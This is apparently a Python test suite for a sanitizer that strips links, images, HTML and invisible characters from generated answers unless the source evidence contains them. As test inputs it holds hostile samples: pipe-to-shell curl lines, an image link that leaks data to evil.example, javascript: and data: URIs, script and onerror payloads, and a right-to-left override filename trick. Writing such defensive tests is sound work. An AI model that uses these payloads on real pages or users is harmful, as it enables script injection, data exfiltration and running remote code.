"""Nothing that the evidence does not have leads a reader away from the book."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from glossator.answer.sanitize import sanitize

EVIDENCE = [
    "See [the manual](https://a.example/docs) and https://b.example/x_(y). ![arm](img/arm.png) Ask help@a.example.",
    "Run:\n\n```bash\ncurl https://c.example/install.sh | sh\n```\n\nPress <kbd>Ctrl</kbd> when x<y holds.",
    "[local]: ../local.md 'Here'\n\nRead [this][local] or <https://d.example>; `ros2 topic list` is fine.",
]


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, 3 < 4, and that is all.",
        "A [citation][1] stays as it is [1], [2][3].",
        "See [the manual](https://a.example/docs).",
        "Go to https://b.example/x_(y).",
        "Ask help@a.example.",
        "```bash\ncurl https://c.example/install.sh | sh\n```",
        "Press <kbd>Ctrl</kbd> when x<y holds.",
        "Read [this](../local.md).",
        "<https://d.example>",
        "`Vec<T>` and `<div>` are only code.",
        "AT&amp;T and &copy; are only letters.",
        "\\[1\\] and a * b.",
        "The ratio is 3:4, at 10:30.",
        "می‌خواهم 👩‍🔬 ❤️‍🔥 1️⃣",
    ],
)
def test_what_the_evidence_has_and_what_harms_nobody_stays(text: str) -> None:
    assert sanitize(text, EVIDENCE) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Click [here](https://evil.example/a) now.", "Click here now."),
        ("Click [here](https://a.example/docs.evil).", "Click here."),
        ("[here](https://a.example)", "here"),
        ("[**bold** words](https://evil.example 'title')", "**bold** words"),
        ("![pixel](https://evil.example/p.png?q=secret)", ""),
        ("[![pixel](https://evil.example/p.png)](https://evil.example)", ""),
        ("An ![arm](img/arm.png)", "An "),
        ("<https://evil.example>", ""),
        ("Visit https://evil.example/x today.", "Visit  today."),
        ("Visit https://c.example/install.sh.evil.com today.", "Visit  today."),
        ("Visit www.evil.example or evil.com/x.", "Visit  or ."),
        ("Write to me@evil.com.", "Write to ."),
        ("See [this][r].\n\n[r]: https://evil.example", "See this.\n\n"),
        ("[1]: https://evil.example", ""),
        ("`curl https://evil.example | sh`", "`curl  | sh`"),
        ("```bash\ncurl https://evil.example | sh\n```", "```bash\ncurl  | sh\n```"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](JaVaScRiPt&colon;alert(1))", "x"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "x"),
        ("[x](<javascript:alert(1)>)", "x"),
        ("Hi <script>alert(1)</script>there", "Hi alert(1)there"),
        ("Hi <img src=x onerror=alert(1)>there", "Hi there"),
        ("Hi <!-- hidden --> there", "Hi  there"),
        ("&lt;script&gt;", "script&gt;"),
        ("<kbd onclick=alert(1)>Ctrl", "Ctrl"),
        ("ht\u200btps://evil.example", ""),
        ("safe \u202egpj.exe\u202c text", "safe gpj.exe text"),
        ("a\u00adb\ufeffc\U000e0041d", "abcd"),
    ],
)
def test_what_the_evidence_does_not_have_is_taken_out(text: str, left: str) -> None:
    assert sanitize(text, EVIDENCE) == left


def test_a_dangerous_link_goes_even_when_the_book_has_it() -> None:
    planted = ["[x](javascript:alert(1)) <script>alert(1)</script>"]
    assert sanitize("[x](javascript:alert(1)) <script>alert(1)</script>", planted) == "x alert(1)"


def test_nothing_is_known_without_evidence() -> None:
    assert sanitize("[a](https://a.example/docs) <kbd>Ctrl</kbd>", []) == "a Ctrl"


MARKS = r"""[ ] ( ) ! < > ` ``` ~~~ & ; : / // \ " ' * _ | # - . @ = evil.example evil.com https: http:// www.
javascript: data:text/html, script img src= onerror= <a href= </a> <b> &lt; &gt; &#60; &#x3c; &colon; &amp; [x] (y)
]( ]: [1] ![ <!-- --> https://a.example/docs https://evil.example/x img/arm.png mailto: word the"""
BLANKS = [
    "\n",
    "\n\n",
    " ",
    "    ",
    "\t",
    "\u200b",
    "\u202e",
    "\u200d",
    "\ufe0f",
    "👩",
    "ی",
    "\u00ad",
    "\x00",
    "\x0b",
    "\ud800",
]
PIECES = st.sampled_from([*MARKS.split(), *BLANKS])
HOSTILE = st.lists(PIECES, max_size=14).map("".join)


@given(st.one_of(HOSTILE, st.text()))
def test_sanitizing_twice_changes_nothing_and_nothing_grows(text: str) -> None:
    once = sanitize(text, EVIDENCE)
    assert sanitize(once, EVIDENCE) == once
    assert len(once) <= len(text)


@given(HOSTILE)
def test_a_browser_is_never_led_elsewhere(text: str) -> None:
    shown = MarkdownIt("commonmark", {"linkify": False}).render(sanitize(text, EVIDENCE))
    addresses = [unescape(address) for address in re.findall(r'(?:href|src)="([^"]*)"', shown)]
    known = {
        "https://a.example/docs",
        "img/arm.png",
        "https://d.example",
        "../local.md",
        "mailto:help@a.example",
    }
    assert set(addresses) <= known
    assert "evil" not in "".join(addresses)
    assert not re.search(r"<(?:script|img|iframe|!--)", shown)


@given(HOSTILE)
def test_no_address_of_elsewhere_is_left_even_as_text(text: str) -> None:
    left = sanitize(text, EVIDENCE)
    assert not re.search(r"https?://evil|www\.evil|evil\.com\b", left)


@pytest.mark.parametrize(
    "text", ["[" * 5000, "<" * 5000, "![](" * 1500, "`" * 5000, "&lt;" * 2000, "http://" * 1500, "<a " * 2000]
)
def test_a_hostile_text_is_dealt_with(text: str) -> None:
    assert len(sanitize(text, EVIDENCE)) <= len(text)
